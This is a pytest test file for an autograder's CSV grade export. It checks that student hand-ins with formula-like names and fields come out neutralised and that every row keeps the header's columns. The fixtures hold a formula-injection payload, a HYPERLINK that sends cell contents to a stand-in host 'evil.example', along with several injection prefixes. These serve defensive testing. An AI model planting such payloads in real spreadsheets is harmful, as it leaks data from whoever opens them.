"""Hand-ins that want to put formulas into the instructor's spreadsheet, by the whole way to the exported CSV."""

from __future__ import annotations

import csv
import json
import shutil
from io import StringIO

import pytest
from rich.console import Console

from autograder.demo import make_class
from autograder.exports import export
from autograder.grading.run import grade
from autograder.tables.spreadsheet import FORMULA
from autograder.tests.checkout import built_course
from autograder.tests.intake.test_intake import make_zip

NAMES = ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\uff1d1+1")
TEXT = '=HYPERLINK("http://evil.example?"&A1)'


@pytest.fixture(scope="module")
def table(tmp_path_factory) -> tuple[str, list[list[str]]]:
    """The CSV of a class of such hand-ins, as text and as cells."""
    folder = tmp_path_factory.mktemp("formulas")
    course = built_course(folder / "course")
    arrivals = folder / "arrivals"
    arrivals.mkdir()
    right = next(made.path for made in make_class(course, folder / "made") if made.student.startswith("s02"))
    shutil.copy2(right, arrivals / "=ada.zip")
    for number, name in enumerate(NAMES):  # refused, and in the gradebook all the same
        notebook = {"cells": [{"cell_type": "code", "source": TEXT, "outputs": [], "metadata": {}}], "metadata": {}}
        manifest = json.dumps({"student": TEXT, "name": TEXT, "submitted": TEXT})
        files = {f"{TEXT[:5]}.txt": TEXT, "flat.ipynb": json.dumps(notebook), "hand-in.json": manifest}
        make_zip(arrivals / f"{name}.zip", files, when=1e9 + number)
    outcome = grade(course, "flat", hand_ins_from=arrivals, jobs=1, console=Console(file=StringIO()))
    assert not outcome.failed and len(outcome.graded) > len(NAMES) // 2, outcome
    text = export(course, "flat", out=folder / "grades.csv").path.read_text(encoding="utf-8-sig")
    return text, list(csv.reader(StringIO(text)))


def test_no_cell_of_the_csv_is_taken_for_a_formula(table):
    text, (_, *rows) = table
    assert len(rows) > len(NAMES) // 2
    for cell in (cell for row in rows for cell in row if cell):
        number = cell.lstrip("-").replace(".", "", 1).isdigit()
        assert number or not cell.lstrip(" \u00a0").startswith(FORMULA), cell
    assert TEXT not in text and "evil.example" not in text


def test_every_row_has_the_columns_of_the_head(table):
    _, (head, *rows) = table
    assert {len(row) for row in rows} == {len(head)}
